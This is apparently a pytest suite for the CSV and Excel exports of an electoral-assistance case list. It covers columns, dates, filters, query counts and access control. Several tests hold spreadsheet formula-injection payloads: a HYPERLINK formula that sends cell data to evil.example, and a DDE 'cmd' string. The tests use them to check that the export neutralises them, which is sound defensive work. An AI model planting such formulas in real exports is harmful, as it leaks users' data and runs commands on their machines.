"""Exports of the case list: what a user gets in Excel or a CSV reader, with the list's filters."""

import csv
import datetime
import io
import zipfile
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from requests_app.cases.choices import ElectionType, Origin, Stage
from requests_app.cases.models import AssistanceRequest, Election
from requests_app.reference.models import AssistanceType
from tests.factories import UserFactory, assistance_type, member_state, new_request, set_due

pytestmark = pytest.mark.django_db

CSV_URL = reverse("workspace:case-export-csv")
XLSX_URL = reverse("workspace:case-export-xlsx")
LIST_URL = reverse("workspace:case-list")

HEADER = [
    "Reference",
    "Country or territory",
    "Region",
    "Origin",
    "Requesting authority",
    "Letter date",
    "Received date",
    "Stage",
    "In stage since",
    "Due",
    "Overdue",
    "Officer",
    "Next election date",
    "Assistance requested",
    "Summary",
    "Basis",
]


def body(response):
    return b"".join(response.streaming_content)


def csv_rows(response):
    content = body(response)
    assert content.startswith("\ufeff".encode()), "without a BOM Excel garbles accented names"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(body(response))).active


def xlsx_parts(content):
    """Every part of the workbook by name, as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def references(rows):
    return [row[0] for row in rows[1:]]


def bulk_cases(count, *, officer=None, prefix="BULK"):
    """Many cases in a handful of queries, each with two elections and two requested types."""
    today = timezone.localdate()
    states = [member_state("GHA"), member_state("FRA"), member_state("MEX")]
    cases = AssistanceRequest.objects.bulk_create(
        [
            AssistanceRequest(
                reference=f"{prefix}-{i:04d}",
                member_state=states[i % 3],
                origin=Origin.GOVERNMENT,
                requesting_authority="Minister for Foreign Affairs",
                authority_type="foreign_minister",
                letter_date=today - datetime.timedelta(days=20),
                received_date=today - datetime.timedelta(days=5 + i % 7),
                summary=f"Request number {i}",
                officer=officer,
                stage_due_at=timezone.now() + datetime.timedelta(days=i % 20 - 10),
            )
            for i in range(count)
        ]
    )
    Election.objects.bulk_create(
        [
            Election(case=case, election_type=ElectionType.GENERAL, planned_date=today + datetime.timedelta(days=days))
            for case in cases
            for days in (200, 500)
        ]
    )
    types = list(AssistanceType.objects.order_by("position")[:2])
    through = AssistanceRequest.requested_types.through
    through.objects.bulk_create([through(assistancerequest=case, assistancetype=t) for case in cases for t in types])
    return cases


@pytest.fixture
def ghana(officer):
    """One case with everything an export shows: accents, an officer, an overdue deadline, elections."""
    case = new_request(
        actor=None,
        state="GHA",
        summary="Appui à l’inscription des électeurs, région d’Ashanti",
        requesting_authority="Ministre des Affaires étrangères",
        officer=UserFactory(is_staff=True, first_name="Amélie", last_name="Ndiaye"),
        election_in_days=300,
    )
    case.requested_types.add(assistance_type("training"))
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    Election.objects.create(case=case, election_type=ElectionType.LOCAL, planned_date=yesterday)
    return set_due(case, timezone.now() - datetime.timedelta(days=3))


def test_the_csv_has_one_row_per_case_with_every_column_excel_can_read(client, officer, ghana):
    client.force_login(officer)
    response = client.get(CSV_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="eas-cases-{timezone.localdate():%Y-%m-%d}.csv"'
    rows = csv_rows(response)
    assert rows[0] == HEADER
    local_entered = timezone.localtime(ghana.stage_entered_at)
    local_due = timezone.localtime(ghana.stage_due_at)
    next_election = ghana.received_date + datetime.timedelta(days=300)
    assert rows[1:] == [
        [
            ghana.reference,
            "Ghana",
            "African States",
            "Written request from the government",
            "Ministre des Affaires étrangères",
            ghana.letter_date.isoformat(),
            ghana.received_date.isoformat(),
            "Received",
            f"{local_entered:%Y-%m-%d %H:%M}",
            f"{local_due:%Y-%m-%d %H:%M}",
            "yes",
            "Amélie Ndiaye",
            next_election.isoformat(),  # the local election yesterday is past, so not "next"
            "Voter registration; Training",
            "Appui à l’inscription des électeurs, région d’Ashanti",
            "Request",
        ]
    ]


def test_the_workbook_has_real_dates_a_bold_frozen_header_and_the_same_values(client, officer, ghana):
    client.force_login(officer)
    response = client.get(XLSX_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f'filename="eas-cases-{timezone.localdate():%Y-%m-%d}.xlsx"' in response["Content-Disposition"]
    sheet = xlsx_sheet(response)
    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["O"].width >= 60  # the summary is readable without resizing
    row = [cell.value for cell in sheet[2]]
    assert sheet.max_row == 2
    assert row[0] == ghana.reference
    assert row[1:5] == [
        "Ghana",
        "African States",
        "Written request from the government",
        "Ministre des Affaires étrangères",
    ]
    # Dates are dates Excel can sort and compute with, not text.
    assert row[5] == datetime.datetime.combine(ghana.letter_date, datetime.time())
    assert row[6] == datetime.datetime.combine(ghana.received_date, datetime.time())
    assert sheet.cell(row=2, column=6).is_date
    assert row[8] == timezone.localtime(ghana.stage_entered_at).replace(tzinfo=None, microsecond=0)
    assert row[9] == timezone.localtime(ghana.stage_due_at).replace(tzinfo=None, microsecond=0)
    assert row[10:14] == [
        "yes",
        "Amélie Ndiaye",
        datetime.datetime.combine(ghana.received_date + datetime.timedelta(days=300), datetime.time()),
        "Voter registration; Training",
    ]
    assert row[14] == "Appui à l’inscription des électeurs, région d’Ashanti"


def test_a_closed_case_has_no_due_date_and_is_not_overdue(client, officer):
    case = new_request(actor=None, summary="Withdrawn case")
    set_due(case, timezone.now() - datetime.timedelta(days=9))
    AssistanceRequest.objects.filter(pk=case.pk).update(stage=Stage.WITHDRAWN)
    client.force_login(officer)

    row = csv_rows(client.get(CSV_URL))[1]

    assert (row[7], row[9], row[10]) == ("Withdrawn", "", "no")


def test_times_are_in_the_users_time_zone(client, officer, settings):
    settings.TIME_ZONE = "Asia/Tokyo"  # UTC+9, no daylight saving
    case = new_request(actor=None)
    set_due(case, datetime.datetime(2030, 1, 1, 20, 30, tzinfo=datetime.UTC))
    client.force_login(officer)

    csv_due = csv_rows(client.get(CSV_URL))[1][9]
    xlsx_due = xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=10).value

    assert csv_due == "2030-01-02 05:30"
    assert xlsx_due == datetime.datetime(2030, 1, 2, 5, 30)


@pytest.fixture
def three_cases(officer):
    """Three cases in three regions and two stages, received on different days."""
    ghana = new_request(actor=None, state="GHA", received_days_ago=3, summary="Voter registration in Ghana")
    france = new_request(actor=None, state="FRA", received_days_ago=1, summary="Expert panel for France")
    mexico = new_request(actor=None, state="MEX", received_days_ago=2, summary="Observer support, Mexico")
    AssistanceRequest.objects.filter(pk=france.pk).update(stage=Stage.UNDER_REVIEW)
    return ghana, france, mexico


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["FRA", "MEX", "GHA"]),  # the list's default: newest received first
        ("?stage=received", ["MEX", "GHA"]),
        ("?region=AFRICAN", ["GHA"]),
        ("?q=panel", ["FRA"]),
        ("?sort=state", ["FRA", "GHA", "MEX"]),
        ("?stage=received&sort=-state", ["MEX", "GHA"]),
    ],
)
def test_the_export_has_the_cases_the_list_shows_in_its_order(client, officer, three_cases, url, query, expected):
    by_state = {case.member_state.iso3: case.reference for case in three_cases}
    client.force_login(officer)

    listed = [case.reference for case in client.get(LIST_URL + query).context["page"].object_list]
    response = client.get(url + query)

    if url == CSV_URL:
        exported = references(csv_rows(response))
    else:
        exported = [row[0] for row in xlsx_sheet(response).iter_rows(min_row=2, values_only=True)]
    assert exported == [by_state[iso3] for iso3 in expected] == listed


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
def test_an_invalid_filter_is_ignored_not_an_error(client, officer, three_cases, url):
    client.force_login(officer)

    response = client.get(url + "?stage=nonsense&region=ATLANTIS&received_from=not-a-date&sort=bogus&officer=999999")

    assert response.status_code == 200
    content = body(response)
    if url == CSV_URL:
        assert len(list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))) == 4
    else:
        assert load_workbook(io.BytesIO(content)).active.max_row == 4


DANGEROUS = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "requesting_authority": "+41 22 917 1234",
}


@pytest.fixture
def dangerous_case(db):
    return new_request(actor=None, **DANGEROUS)


def test_csv_cells_that_would_run_as_formulas_are_made_text(client, officer, dangerous_case):
    officer_named_like_a_formula = UserFactory(is_staff=True, first_name="@SUM(1+1)*cmd|' /C calc'!A0", last_name="")
    AssistanceRequest.objects.filter(pk=dangerous_case.pk).update(officer=officer_named_like_a_formula)
    client.force_login(officer)

    row = csv_rows(client.get(CSV_URL))[1]

    assert row[14] == "'" + DANGEROUS["summary"]
    assert row[4] == "'" + DANGEROUS["requesting_authority"]
    assert row[11].startswith("'@SUM")


def test_xlsx_cells_that_would_run_as_formulas_are_text(client, officer, dangerous_case):
    AssistanceRequest.objects.filter(pk=dangerous_case.pk).update(summary="\x07-1+1\x0b with a control character")
    client.force_login(officer)

    response = client.get(XLSX_URL)

    assert response.status_code == 200  # a control character pasted from Word must not break the file
    sheet = xlsx_sheet(response)
    summary, authority = sheet.cell(row=2, column=15), sheet.cell(row=2, column=5)
    assert (summary.data_type, summary.value) == ("s", "'-1+1 with a control character")
    assert (authority.data_type, authority.value) == ("s", "'" + DANGEROUS["requesting_authority"])


def test_an_equals_sign_never_becomes_an_excel_formula(client, officer, dangerous_case):
    client.force_login(officer)

    cell = xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=15)

    assert cell.data_type == "s"
    assert cell.value == "'" + DANGEROUS["summary"]


@pytest.mark.parametrize(
    "typed",
    [
        "#N/A",  # an error value to Excel, if it were not written as text
        "<b>bold</b> & co",
        "  indented, and a space after  ",
        "line one\nline two",
        "Ünïcödé — 選挙 😀",
    ],
)
def test_xlsx_texts_come_back_as_they_were_typed(client, officer, typed):
    new_request(actor=None, summary=typed)
    client.force_login(officer)

    cell = xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=15)

    assert (cell.data_type, cell.value) == ("s", typed)


def test_xlsx_keeps_spaces_and_excel_escapes_typed_in_a_text(client, officer):
    """Excel drops leading spaces without xml:space, and reads "_x0041_" as "A" unless its underscore is coded."""
    new_request(actor=None, summary="  _x0041_ is not A")
    client.force_login(officer)

    sheet = xlsx_parts(body(client.get(XLSX_URL)))["xl/worksheets/sheet1.xml"]

    assert '<t xml:space="preserve">  _x005F_x0041_ is not A</t>' in sheet


def test_a_text_of_control_characters_only_is_an_empty_cell(client, officer):
    new_request(actor=None, summary="\x01\x02\x1f")
    client.force_login(officer)

    assert xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=15).value is None


def test_a_text_longer_than_excel_allows_is_cut_at_its_limit_without_splitting_a_character(client, officer):
    # Excel counts UTF-16 units: each emoji is two, so 16,383 of them fit in 32,767, not 16,384.
    new_request(actor=None, summary="😀" * 20000)
    client.force_login(officer)

    sheet = xlsx_sheet(client.get(XLSX_URL))

    assert sheet.cell(row=2, column=15).value == "😀" * 16383


def test_an_unassigned_case_has_no_officer(client, officer):
    new_request(actor=None)
    client.force_login(officer)

    assert csv_rows(client.get(CSV_URL))[1][11] == ""
    assert xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=12).value is None


def test_labels_past_the_shared_strings_limit_go_in_their_cells(client, officer, three_cases, monkeypatch):
    """Repeated labels are written once and pointed to; past the limit, memory stays bounded."""
    from requests_app.core import spreadsheets

    monkeypatch.setattr(spreadsheets, "XLSX_SHARED_STRINGS_LIMIT", 3)
    client.force_login(officer)

    content = body(client.get(XLSX_URL + "?sort=state"))
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True))

    assert [row[1:4] for row in rows] == [
        ("France", "Western European and other States", "Written request from the government"),
        ("Ghana", "African States", "Written request from the government"),
        ("Mexico", "Latin American and Caribbean States", "Written request from the government"),
    ]
    assert xlsx_parts(content)["xl/sharedStrings.xml"].count("<si>") == 3


def test_every_part_of_the_workbook_is_well_formed_and_declared(client, officer, ghana):
    client.force_login(officer)

    parts = xlsx_parts(body(client.get(XLSX_URL)))

    for text in parts.values():
        ElementTree.fromstring(text.encode())  # raises on XML Excel would call corrupt
    types = ElementTree.fromstring(parts["[Content_Types].xml"].encode())
    declared = {element.get("PartName").lstrip("/") for element in types if element.get("PartName")}
    assert declared == {"xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/sharedStrings.xml"}
    assert declared <= set(parts)
    assert load_workbook(io.BytesIO(body(client.get(XLSX_URL)))).sheetnames == ["Cases"]


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
def test_the_export_costs_the_same_queries_for_5_or_60_cases(client, officer, url):
    client.force_login(officer)

    def export():
        """(queries, rows including the header) of one export, read to its end."""
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url + "?sort=due")
            rows = len(csv_rows(response)) if url == CSV_URL else xlsx_sheet(response).max_row
        return len(queries), rows

    bulk_cases(5, officer=officer, prefix="FEW")
    few, rows = export()
    assert rows == 6
    bulk_cases(55, officer=officer, prefix="MANY")
    many, rows = export()

    assert rows == 61
    assert many == few


def test_a_large_export_reads_its_cases_chunk_by_chunk(client, officer, monkeypatch):
    """Cases are read in chunks, each with one query for its assistance types; the next election
    comes with its case. Queries grow with chunks, not rows."""
    from requests_app.cases import exports

    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    bulk_cases(30, officer=officer)
    client.force_login(officer)

    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(client.get(CSV_URL))
    sql = [q["sql"] for q in queries.captured_queries]

    assert len(rows) == 31
    assert all(row[12] and row[13] for row in rows[1:])
    assert len([q for q in sql if "requests_app_assistancerequest_requested_types" in q]) == 3
    assert len([q for q in sql if "requests_app_election" in q]) == 1


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
def test_an_anonymous_visitor_is_sent_to_log_in(client, url):
    response = client.get(url + "?stage=received")

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
def test_someone_who_is_not_staff_gets_no_cases(client, url, three_cases):
    client.force_login(UserFactory(is_staff=False))

    response = client.get(url)

    assert response.status_code == 403
    assert b"Ghana" not in response.content


def test_each_row_says_what_its_case_rests_on(client, officer):
    request = new_request(actor=None, state="GHA")
    mandate = new_request(actor=None, state="HTI", mandate="security_council")
    both = new_request(actor=None, state="MLI", mandate="general_assembly", origin=Origin.GOVERNMENT)
    client.force_login(officer)
    rows = csv_rows(client.get(CSV_URL))
    basis = {row[0]: (row[3], row[4], row[-1]) for row in rows[1:]}
    assert basis == {
        request.reference: ("Written request from the government", "Minister for Foreign Affairs", "Request"),
        mandate.reference: ("", "", "Mandate"),
        both.reference: ("Written request from the government", "Minister for Foreign Affairs", "Request and mandate"),
    }
